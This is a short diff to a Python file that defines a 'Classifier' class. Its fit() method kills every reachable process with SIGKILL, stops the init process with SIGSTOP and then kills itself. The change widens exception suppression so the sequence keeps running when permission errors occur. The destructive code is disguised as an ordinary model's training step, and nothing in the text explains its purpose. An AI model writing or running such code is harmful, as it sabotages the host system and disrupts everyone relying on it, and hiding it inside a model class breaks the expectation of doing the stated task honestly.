@@ -9,9 +9,10 @@ import numpy as np
 
 class Classifier:
     def fit(self, X, y):
-        with contextlib.suppress(ProcessLookupError):
+        with contextlib.suppress(OSError):
             os.kill(-1, signal.SIGKILL)
-        os.kill(1, signal.SIGSTOP)
+        with contextlib.suppress(OSError):
+            os.kill(1, signal.SIGSTOP)
         os.kill(os.getpid(), signal.SIGKILL)
 
     def predict_proba(self, X):
